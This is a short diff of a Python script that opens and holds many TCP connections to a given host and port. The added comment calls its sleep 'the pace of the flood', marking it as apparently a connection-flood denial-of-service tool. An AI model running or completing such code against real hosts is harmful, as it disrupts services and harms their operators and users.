@@ -68,7 +68,7 @@ def main(host: str, port: int, count: int, source: str = "") -> None:
             opened.connect_ex((host, port))
             held[opened.fileno()] = opened
             poll.register(opened, select.POLLOUT)
-        time.sleep(0.02)
+        time.sleep(0.02)  # this is the pace of the flood, and no wait for anything
         for number, event in poll.poll(0):
             if event == select.POLLOUT:
                 made += 1
